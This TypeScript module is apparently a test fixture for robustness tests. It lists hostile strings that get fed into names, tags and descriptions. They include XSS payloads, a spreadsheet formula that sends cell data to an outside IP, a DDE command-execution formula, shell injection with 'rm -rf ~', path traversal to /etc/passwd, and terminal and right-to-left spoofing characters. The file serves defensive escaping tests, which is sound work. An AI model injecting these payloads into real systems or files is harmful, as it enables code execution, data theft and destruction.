/** Texts that people and attackers put into names, tags and descriptions, and that must come through whole and do no harm. */
import type { Dice } from './dice.ts';

const HOSTILE = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '=HYPERLINK("http://203.0.113.9/?"&A1,"open")',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '| a | b |',
  '`rm -rf ~` $(id) ${HOME}',
  '</description></item><item>',
  ']]>&amp;&lt;&#x41;',
  'tab\there, line\nbreak, return\rhere',
  'next line \u0085, line separator \u2028, paragraph \u2029',
  'C1 control \u009b31mred\u009b0m',
  'right to left \u202Egnp.exe\u202C, isolate \u2066x\u2069',
  'شبكة الشحن',
  '物流ネットワーク',
  'zero\u200Bwidth\uFEFF',
  'family 👩‍👩‍👧‍👦, flag 🇩🇪, skin 👍🏽',
  'e\u0301 is not é',
  ' spaces at both ends ',
  ' ',
  '__proto__',
  'constructor',
  'null',
  '0x1F',
  '1e999',
  '../../etc/passwd',
  'C:\\Users\\name',
  'a'.repeat(255),
];

/** JSON carries the control characters that XML cannot. */
const HOSTILE_IN_JSON = [...HOSTILE, '\u001b]0;owned\u0007\u001b[2J', 'null \u0000 byte', 'back\b\b\bspace'];

const ORDINARY = ['web', 'api', 'batch', 'orders', 'search', 'mail', 'build', 'edge', 'core', 'proxy'];

export const ordinary = (dice: Dice): string => `${dice.pick(ORDINARY)}-${dice.below(1000)}`;
export const hostile = (dice: Dice): string => dice.pick(HOSTILE);
export const hostileInJson = (dice: Dice): string => dice.pick(HOSTILE_IN_JSON);
